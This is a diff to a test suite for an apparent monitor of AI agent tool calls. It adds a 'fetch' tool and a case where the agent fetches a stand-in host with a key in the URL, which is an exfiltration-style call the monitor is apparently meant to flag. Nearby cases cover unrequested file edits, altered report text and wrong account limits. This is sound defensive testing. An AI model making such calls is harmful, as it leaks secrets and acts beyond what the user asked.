@@ -35,6 +35,11 @@ def web_search(query: str) -> str:
     return echo(query)
 
 
+def fetch(url: str) -> str:
+    """Fetch a page."""
+    return echo(url)
+
+
 def edit_file(path: str, old: str, new: str) -> str:
     """Replace a text in a file."""
     return echo(path, old, new)
@@ -67,7 +72,7 @@ def send_report(recipient: str, path: str, text: str) -> str:
 
 def workspace() -> Callwright:
     app = Callwright()
-    for lookup in (list_directory, read_file, grep, web_search):
+    for lookup in (list_directory, read_file, grep, web_search, fetch):
         app.tool(effect="read")(lookup)
     for change in (edit_file, write_file, build, run_command, set_limit):
         app.tool(effect="idempotent")(change)
@@ -150,6 +155,12 @@ def test_a_search_asks_for_what_the_model_knows_by_name(said: str, query: str) -
         assert not why(app, "web_search", {"query": query}, chat(said))
 
 
+def test_a_page_that_a_result_named_is_fetched() -> None:
+    with workspace() as app:
+        seen = chat("what does it cost?", "Prices: https://shop.example/prices")
+        assert not why(app, "fetch", {"url": "https://shop.example/prices"}, seen)
+
+
 @pytest.mark.parametrize(
     ("said", "results", "name", "arguments"),
     [
@@ -158,6 +169,7 @@ def test_a_search_asks_for_what_the_model_knows_by_name(said: str, query: str) -
         ("别改文件，只说说 src/dates.py 哪里有问题", [SOURCE], "edit_file", {"path": "src/dates.py", "old": "int", "new": "float"}),
         ("send Ann the report in out/report.md", [SOURCE], "send_report", {"recipient": "Ann", "path": "out/report.md", "text": "You owe us 4711."}),
         ("send Ann the report in out/report.md", [SOURCE], "send_report", {"recipient": "Zoe", "path": "out/report.md", "text": "The report."}),
+        ("what does it cost?", ["Prices: https://shop.example/prices"], "fetch", {"url": "https://x9.example/?key=51-aa-77"}),
         ("raise the limit of account A-1", ["A-1: limit 100"], "set_limit", {"account": "A-1", "limit": 7300}),
         ("raise the limit of account A-1 to 200", ["A-1: limit 100"], "set_limit", {"account": "B-9", "limit": 200}),
     ],
